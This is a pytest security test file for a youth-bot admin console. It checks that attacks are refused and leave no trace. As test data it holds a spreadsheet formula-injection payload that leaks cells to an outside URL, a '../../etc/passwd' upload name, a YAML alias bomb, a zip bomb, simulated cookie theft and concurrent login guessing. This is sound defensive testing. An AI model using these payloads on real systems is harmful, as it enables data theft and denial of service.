"""The console under attack (issue 19, part B): each attack through HTTP to the console, asserting the refusal
and that nothing changed. Formula injection, upload roles, sessions, logins, sizes, headers, audited GETs."""
from __future__ import annotations

import io
import time

import pytest
from openpyxl import load_workbook

from domain.events import Events
from domain.jobs import Jobs
from domain.profiles import BRANCHES, Profiles
from domain.quiz import Quiz
from tests.helpers import EVENT_HEADERS, POSTING_HEADERS as JOB_HEADERS, event_row, make_event, make_session, posting, \
    posting_row
from tests import helpers
from tests.helpers import demo_loaded, dump_all

def day(offset: int) -> str:
    from domain import clock

    return clock.local(time.time() + offset * 86400).strftime("%Y-%m-%d")


def workbook(headers, rows) -> bytes:
    return helpers.workbook(headers, rows).getvalue()


def job_row(pid):
    return posting_row(id=pid, employer="顺达物流", title="货车司机", category="物流司机", salary="6000元/月", place="物流园",
                       headcount=2, contact="王经理 0724-0000001", published="today-1")


FORMULA = '=HYPERLINK("http://x.cn/?"&B2&C2,"简历")'


def _cells(data: bytes):
    """Every cell of every sheet of an xlsx, as openpyxl opens it."""
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _assert_text_not_formula(data: bytes, text: str = FORMULA):
    cells = _cells(data)
    planted = [c for c in cells if c.value == text]
    assert planted, "the planted text did not reach the export"
    assert all(c.data_type == "s" for c in planted), [(c.coordinate, c.data_type) for c in planted]
    assert not any(c.data_type == "f" for c in cells)


# -- item 3: no export cell is ever a formula -----------------------------------------------------------
def test_a_residents_note_is_text_in_the_employers_list(console_as, bot, wechat):
    p = Jobs(bot.redis).save(posting("a", "货车司机"))
    Profiles(bot.redis).save_contact("o_alice", "张小明", "13800138000")
    wechat.send(f"投递 {p.number}")
    wechat.send(FORMULA)
    assert Jobs(bot.redis).interested(p.id)[0][3] == FORMULA
    resp = console_as("jobs").client.get(f"/admin/jobs/{p.number}/export.xlsx")
    _assert_text_not_formula(resp.data)


def test_names_and_titles_are_text_in_event_and_quiz_downloads(console, bot):
    events = Events(bot.redis)
    occ = make_event(events)
    Profiles(bot.redis).save_contact("o_a", FORMULA, "13800138000")
    events.sign_up(occ, "o_a")
    _assert_text_not_formula(console.client.get(f"/admin/events/{occ.number}/export.xlsx").data)
    quiz = Quiz(bot.redis)
    s = make_session(quiz)
    quiz.record_completed("o_a", s, ["B", "ABD", "T"], s.opens + 60)
    _assert_text_not_formula(console.client.get(f"/admin/quizzes/{s.id}/export.xlsx").data)
    profiles = Profiles(bot.redis)
    profiles.save_contact("o_b", FORMULA, "13800138001")
    bot.redis.hset(BRANCHES, "b1", FORMULA)
    profiles.set_branch("o_b", "b1")
    _assert_text_not_formula(console.client.get(f"/admin/quizzes/{s.id}/not-done.xlsx").data)


def test_posting_and_event_titles_are_text_in_the_report_workbook(console, bot):
    events = Events(bot.redis)
    occ = make_event(events, starts_in=-3600, hours=0.5)
    events.save(occ.__class__(**{**occ.__dict__, "title": FORMULA}))
    Jobs(bot.redis).save(posting("a", FORMULA))
    resp = console.client.get("/admin/report/figures.xlsx")
    assert resp.status_code == 200
    _assert_text_not_formula(resp.data)


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_the_cli_exports_write_formulas_as_text(bot, cli, tmp_path, wechat, suffix):
    p = Jobs(bot.redis).save(posting("a", "货车司机"))
    Profiles(bot.redis).save_contact("o_alice", "张小明", "13800138000")
    wechat.send(f"投递 {p.number}")
    wechat.send(FORMULA)
    out = tmp_path / f"p.{suffix}"
    cli("jobs", "export", str(p.number), "--out", str(out))
    if suffix == "xlsx":
        _assert_text_not_formula(out.read_bytes())
    else:
        import csv

        rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
        assert "'" + FORMULA in rows[1] and FORMULA not in rows[1]


# -- item 4: sessions ------------------------------------------------------------------------------------
def _copy(console, app):
    """Another browser holding a copy of console's session cookie."""
    from tests.helpers import Console

    thief = Console(app.test_client())
    cookie = console.client.get_cookie("yb_console", path="/admin")
    thief.client.set_cookie("yb_console", cookie.value, path="/admin")
    return thief


def test_a_cookie_copied_before_logout_opens_nothing_after_it(console, app):
    thief = _copy(console, app)
    assert thief.client.get("/admin/staff/").status_code == 200
    console.post("/admin/logout")
    for path in ("/admin/staff/", "/admin/people/", "/admin/"):
        resp = thief.client.get(path)
        assert resp.status_code == 302 and "/admin/login" in resp.headers["Location"], path


def test_a_deleted_accounts_cookie_never_opens_the_new_account_of_the_same_name(console, console_as, app, redis_client):
    from domain.staff import Staff

    organiser = console_as("organiser", "wangfang")
    old = _copy(organiser, app)
    console.post("/admin/staff/wangfang/delete", token_from="/admin/staff/")
    staff = Staff(redis_client)
    staff.change_password("wangfang", staff.create("wangfang", "admin"), "another-long-secret")
    for c in (organiser, old):
        assert c.client.get("/admin/staff/").status_code == 302
    assert redis_client.keys("yb:{staff}:session:*") == [s for s in redis_client.keys("yb:{staff}:session:*")
                                                         if redis_client.hget(s, "name") != "wangfang"]


def test_a_password_change_ends_the_other_sessions_and_keeps_this_one(app, redis_client):
    from tests.helpers import STAFF_PASSWORD, Console, staff_account

    staff_account(redis_client, "admin1", "admin")
    here, there = Console(app.test_client()), Console(app.test_client())
    here.login("admin1"), there.login("admin1")
    copy = _copy(here, app)
    resp = here.post("/admin/password", {"old": STAFF_PASSWORD, "new": "kite-meadow-1987", "again": "kite-meadow-1987"},
                     token_from="/admin/password")
    assert resp.status_code == 302
    assert here.client.get("/admin/staff/").status_code == 200
    assert there.client.get("/admin/staff/").status_code == 302 and copy.client.get("/admin/staff/").status_code == 302


def test_a_busy_session_still_ends_after_the_absolute_lifetime(console, monkeypatch):
    from domain import clock

    start = clock.now()
    for hours in (1.5, 3, 4.5, 6, 7.5):  # never idle for long
        monkeypatch.setattr(clock, "now", lambda h=hours: start + h * 3600)
        assert console.client.get("/admin/").status_code == 200, hours
    monkeypatch.setattr(clock, "now", lambda: start + 8 * 3600 + 60)
    assert console.client.get("/admin/").status_code == 302


def test_an_idle_session_ends(console, monkeypatch):
    from domain import clock

    start = clock.now()
    monkeypatch.setattr(clock, "now", lambda: start + 121 * 60)
    assert console.client.get("/admin/").status_code == 302


# -- item 8: logins --------------------------------------------------------------------------------------
def _login_from(app, address, name, password):
    from tests.helpers import Console

    c = Console(app.test_client())
    c.client.environ_base["REMOTE_ADDR"] = address
    return c.login(name, password)


@pytest.mark.slow  # ten sign-ins at the service's Argon2 cost: 2 s
def test_unknown_names_cost_what_real_ones_do(app, redis_client, production_password_hashes):
    from tests.helpers import staff_account

    staff_account(redis_client, "admin1", "admin")

    def median(name):
        times = []
        for i in range(5):
            t = time.perf_counter()
            assert _login_from(app, f"10.1.0.{i}", name, "wrong-password").status_code == 401
            times.append(time.perf_counter() - t)
        return sorted(times)[2]
    real, unknown = median("admin1"), median("nobody99")
    assert unknown > 0.5 * real, (real, unknown)


def test_strangers_cannot_lock_the_admin_out(app, redis_client):
    from domain.staff import PAIR_FAILURES
    from tests.helpers import staff_account

    staff_account(redis_client, "admin1", "admin")
    for _ in range(PAIR_FAILURES + 3):
        _login_from(app, "203.0.113.7", "admin1", "wrong-password")
    assert _login_from(app, "203.0.113.7", "admin1", "lantern-river-42").status_code == 429  # the stranger's pair
    assert _login_from(app, "192.168.1.20", "admin1", "lantern-river-42").status_code == 302  # the admin's


def test_guessing_from_many_addresses_hits_a_ceiling_that_a_known_address_passes(redis_client):
    from domain.staff import ACCOUNT_FAILURES, Staff
    from tests.helpers import STAFF_PASSWORD, staff_account

    staff = Staff(redis_client)
    staff_account(redis_client, "admin1", "admin")
    assert staff.login("admin1", STAFF_PASSWORD, "192.168.1.20").status == "ok"  # the admin's usual address
    redis_client.set("yb:{staff}:failures:account:admin1", ACCOUNT_FAILURES)  # as after that many guesses
    assert staff.login("admin1", STAFF_PASSWORD, "198.51.100.4").status == "locked"
    assert staff.login("admin1", STAFF_PASSWORD, "192.168.1.20").status == "ok"


def test_simultaneous_tries_check_at_most_the_limit(live_server, redis_client):
    import re
    from concurrent.futures import ThreadPoolExecutor

    import requests

    from domain.staff import PAIR_FAILURES
    from tests.helpers import staff_account

    staff_account(redis_client, "admin1", "admin")
    base = live_server.rsplit("/wechat", 1)[0]
    s = requests.Session()
    token = re.search(r'name="csrf_token" value="([^"]+)"', s.get(base + "/admin/login").text).group(1)
    cookies = s.cookies.get_dict()

    def attempt(i):
        return requests.post(base + "/admin/login", data={"name": "admin1", "password": f"wrong-{i}",
                                                          "csrf_token": token}, cookies=cookies, timeout=120,
                             allow_redirects=False).status_code
    with ThreadPoolExecutor(40) as pool:
        codes = list(pool.map(attempt, range(40)))
    assert codes.count(401) <= PAIR_FAILURES and codes.count(429) >= 40 - PAIR_FAILURES, codes


def test_changing_the_password_is_rate_limited(console):
    from domain.staff import CHANGE_FAILURES

    for i in range(CHANGE_FAILURES):
        resp = console.post("/admin/password", {"old": f"guess-{i}", "new": "kite-meadow-1987",
                                                "again": "kite-meadow-1987"}, token_from="/admin/password")
        assert resp.status_code == 400 and "原密码不对" in resp.get_data(as_text=True)
    resp = console.post("/admin/password", {"old": "lantern-river-42", "new": "kite-meadow-1987",
                                            "again": "kite-meadow-1987"}, token_from="/admin/password")
    assert resp.status_code == 400 and "次数过多" in resp.get_data(as_text=True)


@pytest.mark.parametrize("weak, why", [("1234567890", "只有数字"), ("Password123", "太常见"),
                                       ("admin1admin1", "账号名"), ("aaaaaaaaaaaa", "重复")])
def test_weak_passwords_are_refused(console, weak, why):
    resp = console.post("/admin/password", {"old": "lantern-river-42", "new": weak, "again": weak},
                        token_from="/admin/password")
    assert resp.status_code == 400 and why in resp.get_data(as_text=True)
    assert console.client.get("/admin/").status_code == 200  # still the old password's session


def test_a_huge_user_name_makes_no_key(app, redis_client):
    from domain.staff import Staff

    keys = lambda: sum(1 for k in redis_client.scan_iter("*") if k != "yb:audit")  # noqa: E731 (the log: one stream)
    before = keys()
    resp = _login_from(app, "10.9.9.9", "x" * 30_000, "wrong-password")
    assert resp.status_code == 401
    assert _login_from(app, "10.9.9.9", "x" * 4_000_000, "wrong-password").status_code == 413  # past the form's bound
    assert Staff(redis_client).login("y" * 4_000_000, "wrong-password", "10.9.9.8").status == "bad"
    assert all(len(k) < 200 for k in redis_client.scan_iter("*"))
    assert keys() - before <= 5
    from domain.audit import MAX_TEXT, Audit

    assert all(len(e.what) <= MAX_TEXT for e in Audit(redis_client).recent(10))  # the name is cut in the log too


# -- item 2: an upload touches only what its uploader's role owns ---------------------------------------
SESSION_KEYS = ("yb:{staff}:session", "yb:{staff}:failures", "yb:{staff}:known", "yb:audit")


def _snapshot(redis):
    """The whole store but the console's own session and login records and the audit log (which records the
    refusal): a refused request changes nothing else."""
    return dump_all(redis, skip=SESSION_KEYS)


def _upload(console, url, name, data: bytes, token_from):
    field = "bank" if "/quizzes/" in url else "sheet"
    return console.post(url, {field: (io.BytesIO(data), name)}, token_from=token_from,
                        content_type="multipart/form-data")


def _fair_yaml(fair_id: str) -> bytes:
    return (f"fair:\n  id: {fair_id}\n  title: 假冒招聘会\n  place: 别处\n  start: today+3 09:00\n  end: today+3 12:00\n"
            f"  capacity: 1\npostings:\n  - {{id: z1, employer: 某公司, title: 普工, category: 制造技工, headcount: 1, "
            f"contact: 王 0724-0000000, published: today}}\n").encode()


def test_a_postings_file_cannot_turn_a_volunteer_event_into_a_fair(console_as, bot, world_with_demo):
    events = Events(bot.redis)
    before = {o.id: (o.title, o.kind, o.place, o.capacity) for o in events.upcoming(0) if o.event_id == "elder-care"}
    assert before
    liaison = console_as("jobs")
    snap = _snapshot(bot.redis)
    resp = _upload(liaison, "/admin/jobs/upload", "岗位.yaml", _fair_yaml("elder-care"), "/admin/jobs/")
    html = resp.get_data(as_text=True)
    assert resp.status_code == 400 and "编号 elder-care 是志愿活动" in html
    assert {o.id: (o.title, o.kind, o.place, o.capacity) for o in events.upcoming(0)
            if o.event_id == "elder-care"} == before
    assert _snapshot(bot.redis) == snap and Jobs(bot.redis).get("z1") is None
    # a fair of its own, or the fair it already has, the jobs role may load
    assert _upload(liaison, "/admin/jobs/upload", "岗位.yaml", _fair_yaml("fair-new"), "/admin/jobs/").status_code == 200
    assert events.kinds_of("fair-new") == {"job_fair"}


def test_an_organisers_sheet_cannot_touch_others_events_or_fairs(console_as, bot, world_with_demo, tmp_path):
    organiser = console_as("organiser")
    snap = _snapshot(bot.redis)
    for eid in ("elder-care", "job-fair-winter"):
        row = event_row(id=eid, title="改掉的标题", category="敬老", place="别处", start=f"{day(5)} 09:00", end="11:30",
                        capacity=1, signup_deadline_hours=2, cancel_cutoff_hours=24, description="说明")
        resp = _upload(organiser, "/admin/events/upload", f"{eid}.xlsx", workbook(EVENT_HEADERS, [row]),
                       "/admin/events/")
        assert resp.status_code == 400 and f"编号 {eid} 是别人负责的活动" in resp.get_data(as_text=True), eid
    assert _snapshot(bot.redis) == snap


@pytest.mark.parametrize("role, url, allowed", [("organiser", "/admin/jobs/upload", False),
                                                ("jobs", "/admin/events/upload", False),
                                                ("jobs", "/admin/quizzes/upload", False),
                                                ("organiser", "/admin/branches/upload", False),
                                                ("jobs", "/admin/branches/upload", False)])
def test_uploads_outside_a_role_are_refused_and_change_nothing(console_as, bot, world_with_demo, role, url, allowed):
    c = console_as(role)
    snap = _snapshot(bot.redis)
    resp = _upload(c, url, "x.yaml", _fair_yaml("elder-care"), "/admin/")
    assert resp.status_code == 403 and _snapshot(bot.redis) == snap


@pytest.fixture
def world_with_demo(bot):

    demo_loaded(bot)
    return bot


# -- item 9: headers, audited GETs, small 500s ---------------------------------------------------------
def test_every_console_page_has_the_security_headers_and_personal_pages_are_not_cached(console, bot):
    Profiles(bot.redis).save_contact("o_a", "张小明", "13800138000")
    for path in ("/admin/", "/admin/people/?q=张小明", "/admin/people/o_a", "/admin/login"):
        h = console.client.get(path).headers
        assert "frame-ancestors 'none'" in h["Content-Security-Policy"] and "script-src 'self'" in h[
            "Content-Security-Policy"], path
        assert h["X-Content-Type-Options"] == "nosniff" and h["Referrer-Policy"] == "same-origin", path
        assert h["Cache-Control"] == "no-store", path
    page = console.page("/admin/staff/")
    assert "onsubmit=" not in page and "<script>" not in page  # nothing inline the CSP would have to allow


def test_a_cross_site_link_plants_no_audit_entry(console, bot):
    from domain.audit import Audit

    Profiles(bot.redis).save_contact("o_a", "赵铁柱", "13800138000")
    logged = Audit(bot.redis).count()  # the console's own login is an entry
    for path in ("/admin/people/?q=赵铁柱", "/admin/people/o_a", "/admin/people/o_a/certificate"):
        resp = console.client.get(path, headers={"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate"})
        html = resp.get_data(as_text=True)
        assert resp.status_code == 403 and "确认打开" in html and "13800138000" not in html, path
        assert "赵铁柱" not in html.replace(path, "") or path.endswith("赵铁柱")
    assert Audit(bot.redis).count() == logged
    assert console.client.get("/admin/people/o_a", headers={"Sec-Fetch-Site": "same-origin"}).status_code == 200
    assert Audit(bot.redis).count() == logged + 1  # opened from the console itself: recorded


def test_an_audit_page_marker_that_is_not_one_is_a_400_with_words(console):
    for before in ("abc", "(", "1-2-3", "9" * 30):
        resp = console.client.get("/admin/staff/audit", query_string={"before": before})
        assert resp.status_code == 400 and "审计日志里一条记录的编号" in resp.get_data(as_text=True), before


def test_the_procfile_binds_loopback_only():
    from pathlib import Path

    web = next(line for line in (Path(__file__).parent.parent / "Procfile").read_text().splitlines()
               if line.startswith("web:"))
    assert "-b 127.0.0.1:" in web and "0.0.0.0" not in web
    console = next(line for line in (Path(__file__).parent.parent / "Procfile").read_text().splitlines()
                   if line.startswith("console:"))
    assert "-b 127.0.0.1:" in console and "0.0.0.0" not in console and "nice -n" in console


@pytest.mark.parametrize("sid", ["a/b", "a\nb", "a b", "../x"])
def test_quiz_ids_that_cannot_be_addresses_are_refused_at_upload(console, sid):
    data = (f"id: {sid!r}\ntitle: 第1期\nsummary: 学习\nopens: today 09:00\ncloses: today+3 09:00\n"
            f"questions:\n  - {{text: 团员年龄？, type: single, options: [14-28, 18-35], answer: A}}\n").encode()
    resp = _upload(console, "/admin/quizzes/upload", "题库.yaml", data, "/admin/quizzes/")
    assert resp.status_code == 400 and "期号只能用" in resp.get_data(as_text=True), sid
    assert Quiz(console.client.application.extensions["youthbot"].redis).sessions() == []


@pytest.mark.parametrize("path", ["/admin/quizzes/a%0Ab", "/admin/quizzes/a%0Ab/export.xlsx",
                                  "/admin/report/?from=0001-01-01&to=0001-01-02",
                                  "/admin/report/?from=9999-12-30&to=9999-12-31",
                                  "/admin/report/figures.xlsx?from=0001-01-01&to=0001-01-31",
                                  "/admin/report/report.docx?from=9999-12-01&to=9999-12-31"])
def test_odd_addresses_and_dates_get_words_not_500(console, path):
    resp = console.client.get(path)
    assert resp.status_code in (400, 404) and "<h1>" in resp.get_data(as_text=True) or \
        "日期" in resp.get_data(as_text=True), (path, resp.status_code)


@pytest.mark.parametrize("name", ["..", "a\x00b.xlsx", "x" * 300 + ".xlsx", "../../etc/passwd.xlsx", "\x00",
                                  "长" * 300 + ".xlsx", "长" * 100 + ".yaml"])
def test_odd_upload_names_get_words_not_500(console, name):
    resp = _upload(console, "/admin/jobs/upload", name, b"PK\x03\x04 not really", "/admin/jobs/")
    assert resp.status_code == 400 and "<h1>" in resp.get_data(as_text=True), (name, resp.status_code)


def test_a_double_clicked_broadcast_is_sent_once(console, bot):
    import re

    from domain.followers import Followers

    for o in ("o_1", "o_2"):
        Followers(bot.redis).subscribe(o)
    form = {"segment": "all", "text": "周六上午团日活动。"}
    preview = console.post("/admin/pushes/broadcast", form, token_from="/admin/pushes/").get_data(as_text=True)
    once = re.search(r'name="once" value="([^"]+)"', preview).group(1)
    first = console.post("/admin/pushes/broadcast", {**form, "confirm": "1", "once": once}, token_from="/admin/pushes/")
    again = console.post("/admin/pushes/broadcast", {**form, "confirm": "1", "once": once}, token_from="/admin/pushes/")
    assert first.status_code == again.status_code == 302 and again.headers["Location"] == first.headers["Location"]
    assert len(bot.outbox.pending()) == 2
    no_token = console.post("/admin/pushes/broadcast", {**form, "confirm": "1"}, token_from="/admin/pushes/")
    assert no_token.status_code == 302 and len(bot.outbox.pending()) == 2


def test_guessing_certificate_numbers_is_limited(client, bot):
    from bot.web.verify import MISSES
    from domain.certificates import Certificates

    cert = Certificates(bot.redis).issue("o_a", "王小红", [(time.time() - 86400, "河道清理", 120)], "团委", time.time())
    assert len(cert.number.split("-", 2)[2].replace("-", "")) == 10  # 50 random bits
    for i in range(MISSES):
        assert client.get(f"/verify/TW20261203-{i:05d}-AAAA").status_code == 404
    resp = client.get(f"/verify/{cert.number}")
    assert resp.status_code == 429 and "次数过多" in resp.get_data(as_text=True)
    other = bot.redis  # another address is not held
    assert client.get(f"/verify/{cert.number}", environ_base={"REMOTE_ADDR": "10.3.3.3"}).status_code == 200
    assert other.exists("yb:verify:misses:127.0.0.1")


def test_hours_cannot_be_recorded_for_an_activity_that_has_not_started(console, bot):
    events = Events(bot.redis)
    occ = make_event(events, starts_in=14 * 86400)
    Profiles(bot.redis).save_contact("o_a", "王小红", "13800138000")
    events.sign_up(occ, "o_a")
    resp = console.post(f"/admin/events/{occ.number}/attendance", {"openid": "o_a", "came": "09:00", "left": "11:00"},
                        token_from=f"/admin/events/{occ.number}", follow_redirects=True)
    assert "活动还没有开始" in resp.get_data(as_text=True)
    assert events.service_record("o_a") == [] and events.attendance(occ.id) == {}
    resp = console.post("/admin/people/o_a/certificate", token_from="/admin/people/o_a/certificate",
                        follow_redirects=True)
    assert "没有计入时长" in resp.get_data(as_text=True)


def test_a_certificate_for_a_profile_without_consent_gets_words_not_500(console, bot):
    events = Events(bot.redis)
    occ = make_event(events, starts_in=-5 * 3600, hours=2)
    bot.redis.hset("yb:{u:o_m}:profile", mapping={"name": "李四", "branch": "b1"})  # a member: a name, no consent
    events.sign_up(occ, "o_m")
    events.record_attendance(occ, "o_m", occ.start, occ.end)
    resp = console.post("/admin/people/o_m/certificate", token_from="/admin/people/o_m/certificate")
    assert resp.status_code in (200, 302, 400) and resp.status_code != 500
    assert "证明" in resp.get_data(as_text=True) or resp.status_code == 302


# -- item 6: bounded sizes ---------------------------------------------------------------------------------
BILLION_LAUGHS = ("a: &a [\"哈哈哈哈哈哈哈哈哈哈\", \"哈哈哈哈哈哈哈哈哈哈\", \"哈哈哈哈哈哈哈哈哈哈\"]\n"
                  + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
                            f"*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n"
                            for i in range(8))
                  + "fair:\n  id: job-fair-x\n  title: *i\n  place: 大厅\n  start: today+3 09:00\n  end: today+3 12:00\n"
                    "  capacity: 10\npostings: []\n")


def test_a_yaml_file_with_aliases_is_refused_before_it_expands(console, bot):
    liaison = console
    snap = _snapshot(bot.redis)
    t = time.perf_counter()
    resp = _upload(liaison, "/admin/jobs/upload", "岗位.yaml", BILLION_LAUGHS.encode(), "/admin/jobs/")
    assert time.perf_counter() - t < 10
    assert resp.status_code == 400 and "展开后太大" in resp.get_data(as_text=True)
    assert _snapshot(bot.redis) == snap


def test_every_text_field_of_a_sheet_is_bounded(console, bot):
    long_row = job_row("a1")
    long_row[JOB_HEADERS.index("用人单位")] = "某" * 5000  # the employer
    snap = _snapshot(bot.redis)
    resp = _upload(console, "/admin/jobs/upload", "岗位.xlsx", workbook(JOB_HEADERS, [long_row]), "/admin/jobs/")
    assert resp.status_code == 400 and "最多60个字，现在5000个字" in resp.get_data(as_text=True)
    assert _snapshot(bot.redis) == snap


def test_console_form_text_is_bounded_with_words(console, bot):
    form = {"title": "长" * 500, "place": "大厅", "start": f"{day(3)} 09:00", "end_time": "11:00", "capacity": "10"}
    snap = _snapshot(bot.redis)
    resp = console.post("/admin/events/new", form, token_from="/admin/events/new", follow_redirects=True)
    assert "活动名称" in resp.get_data(as_text=True) and "最多60个字" in resp.get_data(as_text=True)
    huge = console.post("/admin/events/new", {**form, "description": "长" * 100_000}, token_from="/admin/events/new")
    assert huge.status_code == 413 and "每个文字栏不能超过" in huge.get_data(as_text=True)
    assert _snapshot(bot.redis) == snap


def test_an_upload_past_the_limit_gets_a_413_page_with_words(console):
    from bot.admin.access import UPLOAD_MAX_BYTES

    resp = _upload(console, "/admin/jobs/upload", "岗位.xlsx", b"\0" * (UPLOAD_MAX_BYTES + 1024), "/admin/jobs/")
    assert resp.status_code == 413 and "不能超过10 MB" in resp.get_data(as_text=True)


def test_an_xlsx_zip_bomb_is_refused_by_its_unpacked_size_before_parsing(console, bot):
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/worksheets/sheet1.xml", b" " * (80 * 1024 * 1024))  # 80 MB of nothing, ~80 KB packed
    assert len(buf.getvalue()) < 1024 * 1024
    snap = _snapshot(bot.redis)
    for url, token_from in (("/admin/jobs/upload", "/admin/jobs/"), ("/admin/events/upload", "/admin/events/")):
        t = time.perf_counter()
        resp = _upload(console, url, "炸弹.xlsx", buf.getvalue(), token_from)
        assert time.perf_counter() - t < 10, url
        assert resp.status_code == 400 and "解压后太大" in resp.get_data(as_text=True), url
    assert _snapshot(bot.redis) == snap


def test_a_huge_title_from_before_the_limits_does_not_silence_the_chat(bot, wechat):
    events = Events(bot.redis)
    occ = make_event(events)
    events.save(occ.__class__(**{**occ.__dict__, "title": "长" * 1_000_000}))
    t = time.perf_counter()
    reply = wechat.send("志愿")
    assert time.perf_counter() - t < 3 and reply and len(reply.encode()) <= bot.settings.reply_max_bytes


def test_the_pager_is_linear():
    from handlers.pager import split_pages

    text = "长" * 3_000_000
    t = time.perf_counter()
    pages = split_pages(text, 1900)
    assert time.perf_counter() - t < 2
    assert "".join(pages) == text and all(len(p.encode()) <= 1900 for p in pages)


def test_a_deeply_nested_yaml_gets_words_not_500(console):
    resp = _upload(console, "/admin/jobs/upload", "岗位.yaml", ("fair: " + "[" * 20000 + "]" * 20000).encode(),
                   "/admin/jobs/")
    assert resp.status_code == 400 and "<h1>" in resp.get_data(as_text=True)
